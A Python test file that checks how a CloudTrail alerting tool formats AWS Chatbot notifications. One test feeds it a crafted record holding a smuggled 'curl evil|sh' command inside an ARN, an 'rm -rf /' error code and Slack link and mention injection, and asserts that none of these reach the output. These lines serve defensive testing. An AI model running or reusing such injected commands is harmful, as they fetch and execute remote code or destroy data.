"""The AWS Chatbot custom notification: its required shape, short content, and no markup from the record."""

from __future__ import annotations

import json
from typing import Any

from trailsift.alerts import AlertOptions, format_alert
from trailsift.chatbot import MAX_DESCRIPTION_CHARS, chatbot_notification
from trailsift.scan import Match

from tests.test_alerts import LOCATION, ROOT, STOP_LOGGING, TAMPERING


def notification(record: dict[str, Any], table: str | None = "trailsift-index") -> dict[str, Any]:
    alert = format_alert(Match(LOCATION, 3, record, ("r",)), (TAMPERING, ROOT), LOCATION,
                         AlertOptions(chatbot=True, index_table=table))
    out: dict[str, Any] = json.loads(alert.per_protocol["https"])
    return out


def test_the_custom_notification_format() -> None:
    note = notification(STOP_LOGGING)
    assert note["version"] == "1.0" and note["source"] == "custom" and note["id"] == STOP_LOGGING["eventID"]
    content = note["content"]
    assert content["textType"] == "client-markdown"
    assert content["title"] == ":rotating_light: [critical] StopLogging by user/alice in us-east-1"
    assert "*cloudtrail-tampering* [high]" in content["description"]
    assert "*Who:* `user/alice` (`arn:aws:iam::123456789012:user/alice`)" in content["description"]
    assert "*Where:* account `123456789012`, region `us-east-1`" in content["description"]
    steps = content["nextSteps"]
    assert steps[0].startswith("Open the event in the CloudTrail console: <https://us-east-1.console.aws.amazon.com/")
    assert steps[1] == ("Read the event in full: `trailsift query --table trailsift-index --event-id "
                        f"{STOP_LOGGING['eventID']}`")
    assert steps[2] == ("What else this principal did: `trailsift query --principal "
                        "arn:aws:iam::123456789012:user/alice --table trailsift-index --last 7d`")
    assert content["keywords"] == ["critical", "cloudtrail-tampering", "root-use"]
    assert note["metadata"]["additionalContext"] == {"severity": "critical", "rule": "root-use"}


def test_record_text_cannot_add_links_mentions_or_commands() -> None:
    record = {**STOP_LOGGING, "eventName": "Stop`<!channel>` *x* <http://evil|click>\n- fake",
              "errorCode": "`rm -rf /`",
              "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::123456789012:user/a; curl evil|sh",
                               "accountId": "123456789012"}}
    note = notification(record)
    description = note["content"]["description"]
    assert "<" not in description and ">" not in description  # no link or mention, not even inside code
    for line in description.splitlines():
        outside = "".join(part for index, part in enumerate(line.split("`")) if index % 2 == 0)
        assert "<" not in outside and "http" not in outside
    assert "- fake" not in description.splitlines()
    steps = note["content"]["nextSteps"]
    assert not any("curl" in step for step in steps)  # an ARN of odd characters is never offered as a command
    assert "<http://evil" not in note["content"]["title"]


def test_no_table_no_link_no_arn() -> None:
    record = {**STOP_LOGGING, "eventID": "not-a-uuid", "userIdentity": {"type": "AWSService",
                                                                        "invokedBy": "ec2.amazonaws.com"}}
    note = notification(record, table=None)
    assert note["content"]["nextSteps"] == []
    assert "*Who:* `ec2.amazonaws.com`" in note["content"]["description"]


def test_long_content_is_bounded() -> None:
    document = {"severity": "low", "subject": "s", "eventID": "e", "eventNames": [f"E{i}" for i in range(50)],
                "eventCount": 500, "rules": [{"name": f"r{i}", "severity": "low", "description": "d" * 400}
                                             for i in range(40)]}
    content = chatbot_notification(document)["content"]
    assert len(content["description"]) <= MAX_DESCRIPTION_CHARS
    assert "(500 events)" in content["description"] and "and 30 more rules" in content["description"]
